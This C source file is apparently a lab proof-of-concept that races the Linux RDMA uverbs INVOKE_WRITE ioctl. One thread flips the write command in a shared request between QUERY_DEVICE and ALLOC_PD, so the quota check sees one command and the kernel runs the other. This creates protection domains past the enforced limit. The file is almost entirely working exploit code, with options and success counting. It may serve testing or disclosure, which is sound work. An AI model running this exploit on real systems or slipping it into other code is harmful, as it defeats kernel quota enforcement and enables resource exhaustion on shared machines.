// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Lab helper for kernel quotas: a program that races the check. It allocates PDs until the kernel refuses,
 * then sends INVOKE_WRITE ioctls on the uverbs fd while a second thread keeps rewriting the write command
 * in the request between QUERY_DEVICE (harmless) and ALLOC_PD: when the check reads QUERY_DEVICE and the
 * kernel's own copy then reads ALLOC_PD, a PD past the limit is created, and the kernel must kill us.
 *   kqrace [-d DEV] [-i ITERATIONS] [-c]
 * -c: no rewriting, ALLOC_PD every time (shows that the hand-made request creates PDs at all).
 * Prints "pd held=N errno=E" when allocation stops (4096 at most), then, if it lives through the
 * iterations, "race won=K refused=R failed=F (errno E)": exit 3 if K PDs were created past that point.
 */
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include <infiniband/verbs.h>
#include <rdma/ib_user_ioctl_cmds.h>
#include <rdma/ib_user_ioctl_verbs.h>
#include <rdma/ib_user_verbs.h>
#include <rdma/rdma_user_ioctl.h>

struct req {
	struct ib_uverbs_ioctl_hdr hdr;
	struct ib_uverbs_attr attrs[3];
};

static struct req req;
static atomic_int stop;

static void *flipper(void *arg)
{
	volatile __u64 *cmd = &req.attrs[2].data;

	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		*cmd = IB_USER_VERBS_CMD_ALLOC_PD;
		*cmd = IB_USER_VERBS_CMD_QUERY_DEVICE;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	const char *dev = "rxe0";
	struct ibv_device **list;
	struct ibv_context *ctx;
	long iters = 200000, i, won = 0, refused = 0, other = 0;
	int lasterr = 0;
	int n, num, opt, held = 0;
	__u64 in[1] = { 0 }, out[8];
	int constant = 0;
	pthread_t t;

	while ((opt = getopt(argc, argv, "d:i:c")) != -1) {
		if (opt == 'c')
			constant = 1;
		else if (opt == 'd')
			dev = optarg;
		else if (opt == 'i')
			iters = atol(optarg);
		else
			return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	list = ibv_get_device_list(&num);
	for (n = 0; list && n < num; n++)
		if (!strcmp(ibv_get_device_name(list[n]), dev))
			break;
	if (!list || n == num || !(ctx = ibv_open_device(list[n])))
		return 1;
	while (held < 4096 && ibv_alloc_pd(ctx))
		held++;
	printf("pd held=%d errno=%d\n", held, errno);

	req.hdr.length = sizeof(req);
	req.hdr.object_id = UVERBS_OBJECT_DEVICE;
	req.hdr.method_id = UVERBS_METHOD_INVOKE_WRITE;
	req.hdr.num_attrs = 3;
	req.hdr.driver_id = RDMA_DRIVER_RXE; /* the kernel checks it against the device's driver */
	req.attrs[0].attr_id = UVERBS_ATTR_CORE_IN;
	req.attrs[0].len = sizeof(in);
	req.attrs[0].data = in[0]; /* up to 8 bytes travel inline */
	req.attrs[1].attr_id = UVERBS_ATTR_CORE_OUT;
	req.attrs[1].len = sizeof(out);
	req.attrs[1].data = (uintptr_t)out;
	req.attrs[2].attr_id = UVERBS_ATTR_WRITE_CMD;
	req.attrs[2].len = sizeof(__u64); /* a const attribute is 8 bytes, inline */
	req.attrs[2].data = IB_USER_VERBS_CMD_QUERY_DEVICE;
	if (constant) {
		req.attrs[2].data = IB_USER_VERBS_CMD_ALLOC_PD;
		atomic_store(&stop, 1);
	}
	if (pthread_create(&t, NULL, flipper, NULL))
		return 1;
	for (i = 0; i < iters; i++) {
		memset(out, 0, sizeof(out));
		if (ioctl(ctx->cmd_fd, RDMA_VERBS_IOCTL, &req) == 0) {
			/* a PD's response is its handle (small); a device's starts with its firmware version */
			if (out[0] && out[0] < 65536)
				won++;
		} else if (errno == EDQUOT) {
			refused++;
		} else {
			other++;
			lasterr = errno;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("race won=%ld refused=%ld failed=%ld (errno %d)\n", won, refused, other, lasterr);
	return won ? 3 : 0;
}
